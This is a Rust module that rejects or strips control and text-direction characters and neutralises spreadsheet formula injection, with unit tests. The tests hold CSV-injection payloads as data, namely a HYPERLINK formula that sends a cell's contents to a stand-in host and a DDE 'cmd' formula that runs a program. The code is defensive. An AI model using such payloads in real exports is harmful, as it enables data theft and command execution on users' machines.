//! Text that people and other systems send: no control characters (line breaks and tabs only
//! where a text has lines), and none of the invisible or direction-changing characters that make
//! a name read differently from what is stored (`\u{202e}` turns `exe.pdf` into `fdp.exe`).

/// Whether `c` is refused in text. `lines` allows line breaks and tabs.
pub fn forbidden(c: char, lines: bool) -> bool {
    match c {
        '\n' | '\r' | '\t' => !lines,
        // C0 and C1 controls, DEL.
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        // Direction marks, embeddings, overrides and isolates.
        '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => true,
        // Zero-width and joining characters, the byte-order mark, Mongolian vowel separator.
        '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{2064}' | '\u{feff}' | '\u{180e}' => true,
        // Line and paragraph separators, interlinear annotations, noncharacters, tag characters.
        '\u{2028}' | '\u{2029}' | '\u{fff9}'..='\u{fffb}' | '\u{fffe}' | '\u{ffff}' | '\u{e0000}'..='\u{e007f}' => true,
        _ => false,
    }
}

/// `U+202E` for messages.
fn code_point(c: char) -> String {
    format!("U+{:04X}", u32::from(c))
}

/// Refuses text holding a forbidden character, saying which and where, in Chinese.
pub fn check(label: &str, text: &str, lines: bool) -> Result<(), String> {
    match text.chars().enumerate().find(|(_, c)| forbidden(*c, lines)) {
        None => Ok(()),
        Some((i, '\n' | '\r' | '\t')) => {
            Err(format!("{label}不能包含换行或制表符（第 {} 个字符），请写在一行内", i + 1))
        }
        Some((i, c)) => Err(format!(
            "{label}含有不可见的控制字符或文字方向控制字符（第 {} 个字符，{}），请删除后重新填写",
            i + 1,
            code_point(c)
        )),
    }
}

/// The text without forbidden characters (for browser forms: what a person cannot see, they
/// did not mean to send).
pub fn strip(text: &str, lines: bool) -> String {
    if text.chars().any(|c| forbidden(c, lines)) {
        text.chars().filter(|c| !forbidden(*c, lines)).collect()
    } else {
        text.to_string()
    }
}

/// At most `max` characters of `text`, with `…（共 N 个字符）` when cut: for echoing input back.
pub fn excerpt(text: &str, max: usize) -> String {
    let n = text.chars().count();
    if n <= max {
        return text.to_string();
    }
    let head: String = text.chars().take(max).collect();
    format!("{head}…（共 {n} 个字符）")
}

/// Characters that make a spreadsheet run a cell as a formula (or a DDE command).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell a spreadsheet will not run as a formula: text starting with `=`, `+`, `-`, `@`, a tab
/// or a carriage return gets a leading apostrophe, and so does text that starts with one, so
/// that [`from_spreadsheet`] gives back exactly what was written.
pub fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
    // A plain number (`-5`, `+1.5e3`) is only a number to a spreadsheet: kept as it is.
    let number = text.parse::<f64>().is_ok_and(f64::is_finite) && text.bytes().all(|b| b"+-.eE0123456789".contains(&b));
    if !number && (text.starts_with(FORMULA_START) || text.starts_with('\'')) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// The value of a cell written by [`spreadsheet_safe`] (or typed with Excel's text apostrophe).
pub fn from_spreadsheet(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) || rest.starts_with('\'') => rest,
        _ => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_never_become_formulas_and_come_back_unchanged() {
        for original in [
            "=HYPERLINK(\"http://x.example/\"&A1)",
            "=cmd|' /C calc'!A0",
            "+1+cmd",
            "-2+3",
            "@SUM(1)",
            "'quoted",
            "''",
            "普通名称",
            "",
        ] {
            let cell = spreadsheet_safe(original);
            assert!(!cell.starts_with(FORMULA_START), "{original}");
            assert_eq!(from_spreadsheet(&cell), original);
        }
        assert_eq!(spreadsheet_safe("keji"), "keji");
        assert_eq!(spreadsheet_safe("-5"), "-5", "numbers stay numbers");
        assert_eq!(spreadsheet_safe("-5+5"), "'-5+5");
    }

    #[test]
    fn refuses_controls_and_direction_changes_and_says_where() {
        for bad in ["甲\u{202e}公司", "a\u{200b}b", "x\u{0}", "bell\u{7}", "\u{feff}名称", "a\u{2066}b"] {
            let e = check("名称", bad, true).unwrap_err();
            assert!(e.contains("U+") && e.contains("名称"), "{bad:?}: {e}");
        }
        assert!(check("名称", "甲公司\n第二行", false).unwrap_err().contains("换行"));
        assert!(check("正文", "第一行\n第二行\t缩进", true).is_ok());
        assert!(check("名称", "Café Müller 哈尔滨（中国）有限公司 — ①", false).is_ok());
        assert_eq!(strip("a\u{202e}b\u{200b}c\n", true), "abc\n");
    }

    #[test]
    fn excerpts_say_how_long_the_whole_was() {
        assert_eq!(excerpt("短", 10), "短");
        let long = "长".repeat(1000);
        let e = excerpt(&long, 5);
        assert_eq!(e, "长长长长长…（共 1000 个字符）");
    }
}
